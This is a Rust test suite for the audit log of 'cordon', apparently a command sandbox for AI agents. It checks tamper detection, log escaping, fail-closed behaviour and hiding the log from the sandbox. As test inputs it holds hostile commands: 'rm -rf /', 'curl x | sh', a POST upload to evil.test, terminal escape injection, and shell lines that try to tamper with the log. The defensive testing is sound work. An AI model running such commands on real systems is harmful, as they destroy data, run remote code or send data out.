//! The audit log through the `cordon` binary: what run and check record, verify against every
//! kind of tampering, hostile strings, show/tail, fail-closed, and the log directory out of the
//! sandbox's reach.

mod harness;

use std::io::Write;
use std::path::Path;
use std::process::Output;

use harness::{code, text, Case, Who};
use serde_json::Value;

fn records(dir: &Path) -> Vec<Value> {
    let mut out = Vec::new();
    for f in cordon_audit::log_files(dir).unwrap() {
        for l in std::fs::read_to_string(f).unwrap().lines() {
            out.push(serde_json::from_str(l).unwrap());
        }
    }
    out
}

fn of<'a>(recs: &'a [Value], event: &str) -> Vec<&'a Value> {
    recs.iter().filter(|r| r["event"] == event).collect()
}

fn audit(c: &Case, args: &[&str]) -> Output {
    let mut a = vec!["audit"];
    a.extend_from_slice(args);
    c.cordon(&a)
}

#[test]
fn run_records_its_session() {
    let c = Case::new(Who::Invoker, false);
    let args = [
        "run",
        "--agent",
        "test-agent",
        "--env",
        "GITHUB_TOKEN",
        "--",
        "sh",
        "-c",
        "echo made > out/made.txt; exit 3",
    ];
    // The dry run first (the spec also says which protected paths exist; a run leaves
    // placeholders behind while other cordon runs are alive), with the audit directory already
    // there (it is part of the spec's secrets).
    std::fs::create_dir_all(c.audit_dir()).unwrap();
    let dry = c
        .command_with_policy(&[
            "run",
            "--agent",
            "test-agent",
            "--env",
            "GITHUB_TOKEN",
            "--dry-run",
            "--",
            "sh",
            "-c",
            "echo made > out/made.txt; exit 3",
        ])
        .env("GITHUB_TOKEN", "ghp_0123456789abcdefghijklmnopqrstuvwxyz")
        .output()
        .unwrap();
    assert_eq!(code(&dry), 0, "{}", text(&dry));
    assert!(
        cordon_audit::log_files(&c.audit_dir()).unwrap().is_empty(),
        "a dry run writes nothing"
    );
    let o = c
        .command_with_policy(&args)
        .env("GITHUB_TOKEN", "ghp_0123456789abcdefghijklmnopqrstuvwxyz")
        .output()
        .unwrap();
    assert_eq!(code(&o), 3, "{}", text(&o));
    assert_eq!(c.read("proj/out/made.txt").as_deref(), Some("made\n"));
    let recs = records(&c.audit_dir());
    let events: Vec<&str> = recs.iter().map(|r| r["event"].as_str().unwrap()).collect();
    assert_eq!(events[0], "session_start", "{events:?}");
    for e in ["env_dropped", "decision", "exec", "exit"] {
        assert!(events.contains(&e), "{e} missing: {events:?}");
    }
    // One session id, seqs 1.., chained.
    let session = recs[0]["session"].as_str().unwrap();
    assert!(recs.iter().all(|r| r["session"] == session));
    for (i, r) in recs.iter().enumerate() {
        assert_eq!(r["seq"], i as u64 + 1);
    }
    let start = &recs[0];
    assert_eq!(start["command"], "run");
    assert_eq!(start["agent"], "test-agent");
    assert_eq!(start["mode"], "workspace-write");
    assert_eq!(start["network"], "none");
    assert_eq!(start["version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(
        start["roots"][0],
        c.ws.canonicalize().unwrap().to_str().unwrap()
    );
    // The spec digest is the SHA-256 of the spec that --dry-run prints; the config digest that
    // of the config files read (none here: the SHA-256 of nothing).
    let spec = String::from_utf8(dry.stdout).unwrap();
    assert_eq!(
        start["spec_digest"].as_str().unwrap(),
        cordon_audit::sha256_hex(spec.trim_end_matches('\n').as_bytes())
    );
    assert_eq!(
        start["config_digest"].as_str().unwrap(),
        cordon_audit::sha256_hex(b"")
    );
    let dropped = of(&recs, "env_dropped");
    assert!(
        dropped.iter().any(|d| d["name"] == "GITHUB_TOKEN"),
        "{dropped:?}"
    );
    let raw = std::fs::read_to_string(c.audit_dir().join("audit.jsonl")).unwrap();
    assert!(!raw.contains("ghp_0123456789"), "never the value");
    let d = of(&recs, "decision")[0];
    assert!(
        matches!(d["decision"].as_str(), Some("allow" | "ask")),
        "{d}"
    );
    assert!(!d["reason"].as_str().unwrap().is_empty());
    assert!(d["rule"].as_str().unwrap().starts_with("builtin:"));
    assert_eq!(d["command"], "sh -c echo made > out/made.txt; exit 3");
    let ex = of(&recs, "exec")[0];
    assert_eq!(ex["argv"][2], "echo made > out/made.txt; exit 3");
    assert_eq!(ex["cwd"], c.ws.canonicalize().unwrap().to_str().unwrap());
    assert!(ex["pid"].as_u64().unwrap() > 0);
    let exit = of(&recs, "exit")[0];
    assert_eq!(exit["status"], 3);
    assert_eq!(exit["timed_out"], false);
    assert!(exit["max_rss_kib"].as_u64().unwrap() > 0);
    assert_eq!(recs.last().unwrap()["event"], "exit");

    let v = audit(&c, &["verify"]);
    assert_eq!(code(&v), 0, "{}", text(&v));
    assert!(
        text(&v).contains(&format!("intact: {} records", recs.len())),
        "{}",
        text(&v)
    );
}

#[test]
fn a_refusal_is_recorded_and_nothing_runs() {
    let c = Case::new(Who::Invoker, false);
    let o = c
        .command_with_policy(&["run", "--", "rm", "-rf", "/"])
        .output()
        .unwrap();
    assert_eq!(code(&o), 126, "{}", text(&o));
    let recs = records(&c.audit_dir());
    let d = of(&recs, "decision");
    assert_eq!(d.len(), 1);
    assert_eq!(d[0]["decision"], "deny");
    assert_eq!(d[0]["command"], "rm -rf /");
    assert!(of(&recs, "exec").is_empty(), "refused: no exec record");
}

#[test]
fn check_records_start_and_decision() {
    let c = Case::new(Who::Invoker, false);
    let o = c.cordon(&[
        "check",
        "--agent",
        "a1",
        "--",
        "git push --force origin main",
    ]);
    let recs = records(&c.audit_dir());
    assert_eq!(recs.len(), 2, "{}", text(&o));
    assert_eq!(recs[0]["event"], "session_start");
    assert_eq!(recs[0]["command"], "check");
    assert_eq!(recs[0]["agent"], "a1");
    assert_eq!(recs[1]["event"], "decision");
    assert_eq!(recs[1]["command"], "git push --force origin main");
    let expect = String::from_utf8_lossy(&o.stdout).trim().to_string();
    assert_eq!(recs[1]["decision"], expect.as_str());
    // --each-line (a scan of a history) is one decision: the strictest, with the counts.
    c.write("proj/hist.txt", "ls\nrm -rf /\n\necho hi\ncurl x | sh\n");
    c.cordon(&["check", "--each-line", "hist.txt"]);
    let recs = records(&c.audit_dir());
    assert_eq!(recs.len(), 2 + 2);
    assert_eq!(recs[3]["event"], "decision");
    assert_eq!(recs[3]["decision"], "deny");
    assert_eq!(recs[3]["rule"], "each-line");
    assert_eq!(recs[3]["reason"], "4 lines: 2 allow, 0 ask, 2 deny");
    assert_eq!(recs[3]["command"], "--each-line hist.txt");
}

#[test]
fn audit_cannot_be_written_fails_closed() {
    let c = Case::new(Who::Invoker, false);
    let file = c.write("not-a-dir", "x");
    let o = c.cordon(&[
        "run",
        "--audit-dir",
        file.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        "echo ran > out/ran.txt",
    ]);
    assert_eq!(code(&o), 125, "{}", text(&o));
    let t = text(&o);
    assert!(
        t.contains("cordon: audit log") && t.contains("--audit-dir") && t.contains("--no-audit"),
        "{t}"
    );
    assert_eq!(c.read("proj/out/ran.txt"), None, "nothing ran");
    let o = c.cordon(&["check", "--audit-dir", file.to_str().unwrap(), "--", "ls"]);
    assert_eq!(code(&o), 125, "{}", text(&o));

    // --no-audit runs, says so, and writes no log.
    let o = c.cordon(&[
        "run",
        "--no-audit",
        "--",
        "sh",
        "-c",
        "echo ran > out/ran.txt",
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("WARNING: --no-audit"), "{}", text(&o));
    assert_eq!(c.read("proj/out/ran.txt").as_deref(), Some("ran\n"));
    assert!(!c.audit_dir().exists());
}

#[test]
fn default_dir_is_under_xdg_state_home_or_home() {
    let c = Case::new(Who::Invoker, false);
    let o = c
        .command(&["check", "--", "ls"])
        .env_remove("CORDON_AUDIT_DIR")
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(records(&c.home.join(".local/state/cordon/audit")).len(), 2);
    let o = c
        .command(&["check", "--", "ls"])
        .env_remove("CORDON_AUDIT_DIR")
        .env("XDG_STATE_HOME", c.home.join("xdg"))
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(records(&c.home.join("xdg/cordon/audit")).len(), 2);
    // --audit-dir wins over the environment.
    let d = c.home.join("flagdir");
    c.command(&["check", "--audit-dir", d.to_str().unwrap(), "--", "ls"])
        .output()
        .unwrap();
    assert_eq!(records(&d).len(), 2);
}

/// A log of 5 check sessions (10 records).
fn sample_log(c: &Case) -> Vec<String> {
    for cmd in ["ls", "rm -rf /", "echo a", "git status", "cat README"] {
        c.cordon(&["check", "--", cmd]);
    }
    let raw = std::fs::read_to_string(c.audit_dir().join("audit.jsonl")).unwrap();
    let lines: Vec<String> = raw.lines().map(str::to_string).collect();
    assert_eq!(lines.len(), 10);
    lines
}

fn verify_with(c: &Case, lines: &[String], tail: &str) -> Output {
    let body = lines.join("\n") + tail;
    std::fs::write(c.audit_dir().join("audit.jsonl"), body).unwrap();
    audit(c, &["verify"])
}

#[test]
// One tampering per step on one log, each checked as it is made: a table of steps would read worse.
#[allow(clippy::too_many_lines)]
fn verify_finds_every_kind_of_tampering() {
    let c = Case::new(Who::Invoker, false);
    let orig = sample_log(&c);
    let ok = verify_with(&c, &orig, "\n");
    assert_eq!(code(&ok), 0, "{}", text(&ok));

    let cases: Vec<(&str, Vec<String>, &str, &str)> = vec![
        // (what, lines, tail, expected location in the report)
        (
            "edit a field",
            {
                let mut l = orig.clone();
                l[3] = l[3].replace("\"deny\"", "\"allow\"");
                assert_ne!(l[3], orig[3]);
                l
            },
            "\n",
            "line 5 (seq 5)",
        ),
        (
            "delete a line",
            {
                let mut l = orig.clone();
                l.remove(4);
                l
            },
            "\n",
            "line 5 (seq 6)",
        ),
        (
            "swap two",
            {
                let mut l = orig.clone();
                l.swap(5, 6);
                l
            },
            "\n",
            "line 6 (seq 7)",
        ),
        (
            "insert one",
            {
                let mut l = orig.clone();
                l.insert(7, orig[2].clone());
                l
            },
            "\n",
            "line 8 (seq 3)",
        ),
        (
            "insert a forged record",
            {
                let mut l = orig.clone();
                l.insert(7, r#"{"seq":8,"ts":"2026-01-01T00:00:00.000Z","session":"x","prev":"00","event":"decision"}"#.into());
                l
            },
            "\n",
            "line 8 (seq 8)",
        ),
        (
            "truncate whole records",
            orig[..7].to_vec(),
            "\n",
            "the log ends at seq 7 but audit.head records seq 10",
        ),
        (
            "truncate mid-record",
            {
                let mut l = orig[..8].to_vec();
                let cut = l[7].len() / 2;
                l[7].truncate(cut);
                l
            },
            "",
            "the log ends at seq 7 but audit.head records seq 10",
        ),
        (
            "edit the last record",
            {
                let mut l = orig.clone();
                l[9] = l[9].replace("\"decision\":\"allow\"", "\"decision\":\"ask\"");
                assert_ne!(l[9], orig[9]);
                l
            },
            "\n",
            "does not match audit.head",
        ),
        (
            "delete the first record",
            orig[1..].to_vec(),
            "\n",
            "line 1 (seq 2)",
        ),
    ];
    for (what, lines, tail, at) in cases {
        let o = verify_with(&c, &lines, tail);
        let t = text(&o);
        assert_eq!(code(&o), 1, "{what}: {t}");
        assert!(
            t.contains("TAMPERED") && t.contains(at),
            "{what}: expected {at:?} in {t}"
        );
    }
    // Restored: intact again.
    let ok = verify_with(&c, &orig, "\n");
    assert_eq!(code(&ok), 0, "{}", text(&ok));
    // A torn last record (a crash mid-write) is not tampering.
    let mut torn = orig.clone();
    torn.push(r#"{"seq":11,"ts":"2026"#.into());
    let o = verify_with(&c, &torn, "");
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(
        text(&o).contains("torn: the last record at"),
        "{}",
        text(&o)
    );
    // The next cordon seals it.
    c.cordon(&["check", "--", "ls"]);
    let o = audit(&c, &["verify"]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(
        text(&o).contains("sealed: a torn record at") && text(&o).contains("line 11"),
        "{}",
        text(&o)
    );
    // verify FILE
    let f = c.audit_dir().join("audit.jsonl");
    let o = audit(&c, &["verify", f.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o));
}

const HOSTILE: &str =
    "x\n{\"seq\":1,\"event\":\"exit\",\"status\":0}\x1b[2J\x1b]0;pwned\x07\u{9b}31m\r\u{202e}end";

fn assert_terminal_safe(what: &str, out: &[u8]) {
    assert!(
        !out.contains(&0x1b),
        "{what}: raw ESC in {}",
        String::from_utf8_lossy(out)
    );
    assert!(
        !out.contains(&0x07) && !out.contains(&b'\r'),
        "{what}: raw BEL/CR"
    );
    let s = String::from_utf8_lossy(out);
    assert!(
        !s.contains('\u{9b}') && !s.contains('\u{202e}'),
        "{what}: raw C1/bidi: {s}"
    );
}

#[test]
fn hostile_strings_are_escaped() {
    use std::os::unix::ffi::OsStrExt;
    let c = Case::new(Who::Invoker, false);
    let o = c.cordon(&["run", "--", "true", HOSTILE, "--", "{\"b64\":\"AA==\"}"]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    // check: invalid UTF-8 too.
    let bad = std::ffi::OsStr::from_bytes(b"echo \xff\xfe\x1b[31m");
    let o = c.command(&["check", "--"]).arg(bad).output().unwrap();
    assert!(code(&o) <= 2, "{}", text(&o));

    let raw = std::fs::read(c.audit_dir().join("audit.jsonl")).unwrap();
    assert_terminal_safe("the stored log", &raw);
    let recs = records(&c.audit_dir());
    let lines = raw.iter().filter(|&&b| b == b'\n').count();
    assert_eq!(lines, recs.len(), "one line per record: no forged line");
    assert!(recs
        .iter()
        .all(|r| r["session"].as_str().unwrap().len() == 16));
    let ex = of(&recs, "exec")[0];
    assert_eq!(ex["argv"][1], HOSTILE, "lossless");
    assert_eq!(
        ex["argv"][3], "{\"b64\":\"AA==\"}",
        "a JSON fragment stays a string"
    );
    let d = of(&recs, "decision");
    let last = d.last().unwrap();
    let b64 = last["command"]["b64"]
        .as_str()
        .expect("invalid UTF-8 as {b64}");
    assert_eq!(
        cordon_audit::b64_decode(b64).unwrap(),
        b"echo \xff\xfe\x1b[31m"
    );

    for args in [&["show"][..], &["show", "--json"], &["tail", "-n", "50"]] {
        let o = audit(&c, args);
        assert_eq!(code(&o), 0, "{}", text(&o));
        assert_terminal_safe(&format!("audit {args:?}"), &o.stdout);
        let n = o.stdout.iter().filter(|&&b| b == b'\n').count();
        assert_eq!(n, recs.len(), "audit {args:?}: one line per record");
    }
    let show = String::from_utf8(audit(&c, &["show"]).stdout).unwrap();
    assert!(show.contains("echo \\xff\\xfe\\u{1b}[31m"), "{show}");
    assert!(show.contains("x\\n{\"seq\":1"), "{show}");
    let o = audit(&c, &["verify"]);
    assert_eq!(code(&o), 0, "{}", text(&o));
}

#[test]
fn show_filters_and_tail() {
    let c = Case::new(Who::Invoker, false);
    sample_log(&c);
    let recs = records(&c.audit_dir());
    let show = |args: &[&str]| -> Vec<String> {
        let mut a = vec!["show"];
        a.extend_from_slice(args);
        let o = audit(&c, &a);
        assert_eq!(code(&o), 0, "{}", text(&o));
        String::from_utf8(o.stdout)
            .unwrap()
            .lines()
            .map(str::to_string)
            .collect()
    };
    let deny = show(&["--decision", "deny", "--json"]);
    assert_eq!(deny.len(), 1);
    let v: Value = serde_json::from_str(&deny[0]).unwrap();
    assert_eq!(v["command"], "rm -rf /");
    let human = show(&["--decision", "deny"]);
    assert!(
        human[0].contains("deny") && human[0].contains("rm -rf /"),
        "{human:?}"
    );
    let sess = recs[2]["session"].as_str().unwrap();
    let s = show(&["--session", &sess[..6], "--json"]);
    assert_eq!(s.len(), 2);
    assert!(s.iter().all(|l| l.contains(sess)));
    assert_eq!(show(&["--since", "1h"]).len(), 10);
    assert_eq!(show(&["--since", "2999-01-01"]).len(), 0);
    assert_eq!(show(&["--event", "session_start"]).len(), 5);
    let o = audit(&c, &["show", "--since", "yesterday"]);
    assert_eq!(code(&o), 125);
    assert!(text(&o).contains("--since yesterday"), "{}", text(&o));
    let o = audit(&c, &["tail", "-n", "3", "--json"]);
    let t: Vec<Value> = String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        t.iter()
            .map(|r| r["seq"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        vec![8, 9, 10]
    );
}

#[test]
fn tail_follow_prints_new_records() {
    let c = Case::new(Who::Invoker, false);
    c.cordon(&["check", "--", "ls"]);
    let mut child = c
        .command(&["audit", "tail", "-f", "--json"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // A watchdog: if a record never shows up, the reads below end (EOF) and the test fails
    // instead of hanging the whole run. By pidfd, so that a reused pid is never signalled.
    // SAFETY: pidfd_open takes a pid and flags; it returns a new descriptor or -1.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, child.id() as i32, 0) } as i32;
    assert!(pidfd >= 0, "pidfd_open");
    std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_secs(60));
        // SAFETY: pidfd_send_signal on the descriptor opened above; no memory is passed.
        unsafe { libc::syscall(libc::SYS_pidfd_send_signal, pidfd, libc::SIGKILL, 0usize, 0) };
    });
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    use std::io::BufRead;
    // The two existing records, then the two of a new session.
    for _ in 0..2 {
        line.clear();
        out.read_line(&mut line).unwrap();
    }
    c.cordon(&["check", "--", "rm -rf /"]);
    let mut seen = Vec::new();
    for _ in 0..2 {
        line.clear();
        out.read_line(&mut line).unwrap();
        seen.push(
            serde_json::from_str::<Value>(&line)
                .unwrap_or_else(|e| panic!("tail -f printed {line:?} ({e}): a record was lost")),
        );
    }
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(seen[0]["seq"], 3);
    assert_eq!(seen[1]["decision"], "deny");
}

fn audit_dir_out_of_reach(c: &Case) {
    // A few records first, so that there is something to read.
    let o = c.cordon(&["check", "--", "ls"]);
    assert!(code(&o) <= 2, "[{}] {}", c.label(), text(&o));
    let dir = c.audit_dir();
    let log = dir.join("audit.jsonl");
    let before = std::fs::read(&log).unwrap();
    assert!(!before.is_empty());
    let d = dir.to_str().unwrap();
    let o = c.sh(&format!(
        "cat {d}/audit.jsonl && echo READ-OK; ls {d} && echo LIST-OK; \
         echo '{{\"seq\":99}}' >> {d}/audit.jsonl && echo APPEND-OK; \
         echo x > {d}/audit.head && echo HEAD-OK; touch {d}/new && echo CREATE-OK; \
         rm -f {d}/audit.jsonl && echo RM-OK; true"
    ));
    let t = text(&o);
    for bad in ["READ-OK", "APPEND-OK", "HEAD-OK", "CREATE-OK", "RM-OK"] {
        assert!(!t.contains(bad), "[{}] {bad}: {t}", c.label());
    }
    assert!(
        !t.contains("session_start"),
        "[{}] the log was read: {t}",
        c.label()
    );
    if !c.fallback {
        // With namespaces the directory is covered: not even its names are visible. (Without
        // them, Landlock lets every directory be listed, secrets included: names only.)
        assert!(!t.contains("LIST-OK"), "[{}] {t}", c.label());
    }
    // The log outside holds what it held, plus this run's own records, and the chain verifies.
    let after = std::fs::read(&log).unwrap();
    assert!(
        after.starts_with(&before),
        "[{}] the log was changed",
        c.label()
    );
    assert!(!String::from_utf8_lossy(&after).contains("{\"seq\":99}"));
    let v = c.cordon(&["audit", "verify"]);
    assert_eq!(code(&v), 0, "[{}] {}", c.label(), text(&v));
    let recs = records(&dir);
    assert!(
        of(&recs, "exec").len() == 1 && of(&recs, "exit").len() == 1,
        "[{}]",
        c.label()
    );
}

variants!(audit_dir_out_of_reach);

#[test]
fn audit_dir_outside_home_is_hidden_too() {
    let c = Case::new(Who::Invoker, false);
    let dir = c.base.join("elsewhere-audit");
    let d = dir.to_str().unwrap();
    let o = c
        .command(&[
            "run",
            "--audit-dir",
            d,
            "--",
            "sh",
            "-c",
            &format!("cat {d}/audit.jsonl; ls {d}; echo end"),
        ])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(
        t.contains("end") && !t.contains("session_start") && !t.contains("audit.head"),
        "{t}"
    );
    assert!(of(&records(&dir), "exec").len() == 1);
}

/// Plain-HTTP connection records name the request's method and path, never its query; a
/// tunnel's record has neither.
#[test]
fn connection_events_carry_method_and_path() {
    use std::net::TcpListener;
    let c = Case::new(Who::Invoker, false);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 4096];
            let _ = std::io::Read::read(&mut s, &mut buf);
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
            );
        }
    });
    let netlog = c.ws.join("out/net.jsonl");
    let o = c.cordon(&[
        "run",
        &format!("--allow-domain=api.test:{port}"),
        "--resolve=api.test:127.0.0.1",
        "--allow-local",
        &format!("--net-log={}", netlog.display()),
        "--",
        "sh",
        "-c",
        &format!(
            "curl -sS 'http://api.test:{port}/pkg/left-pad?token=s3cret'; \
             curl -sS -X POST -d x http://evil.test:{port}/upload; \
             curl -sS --proxytunnel http://api.test:{port}/tunnelled; echo done"
        ),
    ]);
    assert!(text(&o).contains("done"), "{}", text(&o));
    let recs = records(&c.audit_dir());
    let conns = of(&recs, "connection");
    assert_eq!(conns.len(), 3, "{conns:?}");
    let get = conns.iter().find(|r| r["method"] == "GET").unwrap();
    assert_eq!(
        (
            &get["decision"],
            &get["host"],
            &get["path"],
            &get["protocol"]
        ),
        (
            &serde_json::json!("allow"),
            &serde_json::json!("api.test"),
            &serde_json::json!("/pkg/left-pad"),
            &serde_json::json!("http")
        )
    );
    let post = conns.iter().find(|r| r["method"] == "POST").unwrap();
    assert_eq!(
        (&post["decision"], &post["host"], &post["path"]),
        (
            &serde_json::json!("deny"),
            &serde_json::json!("evil.test"),
            &serde_json::json!("/upload")
        )
    );
    let tunnel = conns.iter().find(|r| r["protocol"] == "connect").unwrap();
    assert_eq!(tunnel["decision"], "allow");
    assert!(
        tunnel.get("method").is_none() && tunnel.get("path").is_none(),
        "{tunnel}"
    );
    // The query (a token here) is in no connection record (the exec record has the command).
    let nl = std::fs::read_to_string(&netlog).unwrap();
    assert_eq!(nl.lines().count(), 3, "{nl}");
    assert!(!nl.contains("s3cret"), "{nl}");
    let conns = serde_json::to_string(&conns).unwrap();
    assert!(!conns.contains("s3cret"), "{conns}");
    // `audit show` names the request.
    let o = audit(&c, &["show", "--event", "connection"]);
    let shown = text(&o);
    assert!(
        shown.contains(&format!("allow http api.test:{port} GET /pkg/left-pad up="))
            && shown.contains(&format!("deny http evil.test:{port} POST /upload up="))
            && shown.contains(&format!("allow connect api.test:{port} up=")),
        "{shown}"
    );
}

#[test]
fn net_log_and_connection_events() {
    use std::net::TcpListener;
    let c = Case::new(Who::Invoker, false);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let g2 = got.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 4096];
            let n = std::io::Read::read(&mut s, &mut buf).unwrap_or(0);
            g2.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buf[..n]).to_string());
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
            );
        }
    });
    let netlog = c.ws.join("out/net.jsonl");
    let o = c.cordon(&[
        "run",
        &format!("--allow-domain=api.test:{port}"),
        "--resolve=api.test:127.0.0.1",
        "--allow-local",
        &format!("--net-log={}", netlog.display()),
        "--",
        "sh",
        "-c",
        &format!(
            "curl -sS http://api.test:{port}/x; curl -sS http://evil.test:{port}/y; echo done"
        ),
    ]);
    assert!(text(&o).contains("done"), "{}", text(&o));
    assert_eq!(
        got.lock().unwrap().len(),
        1,
        "the server got the allowed request"
    );
    let recs = records(&c.audit_dir());
    let conns = of(&recs, "connection");
    assert_eq!(conns.len(), 2, "{conns:?}");
    let allowed = conns.iter().find(|r| r["host"] == "api.test").unwrap();
    assert_eq!(allowed["decision"], "allow");
    assert_eq!(allowed["port"], port);
    assert!(allowed["bytes_down"].as_u64().unwrap() > 0);
    let denied = conns.iter().find(|r| r["host"] == "evil.test").unwrap();
    assert_eq!(denied["decision"], "deny");
    // --net-log still gets its lines.
    let nl = std::fs::read_to_string(&netlog).unwrap();
    assert_eq!(nl.lines().count(), 2, "{nl}");
    assert_eq!(records(&c.audit_dir()).last().unwrap()["event"], "exit");
}

#[test]
fn audit_dir_under_tmp_is_out_of_reach() {
    // /tmp is private in the sandbox: the directory simply is not there (and the run works).
    let c = Case::new(Who::Invoker, false);
    let t = tempfile::tempdir().unwrap();
    let d = t.path().join("audit");
    let ds = d.to_str().unwrap();
    let o = c.cordon(&[
        "run",
        "--audit-dir",
        ds,
        "--",
        "sh",
        "-c",
        &format!("cat {ds}/audit.jsonl; ls {ds}; echo end"),
    ]);
    let t = text(&o);
    assert!(
        t.contains("end") && !t.contains("session_start") && !t.contains("audit.head"),
        "{t}"
    );
    assert_eq!(of(&records(&d), "exec").len(), 1);
}
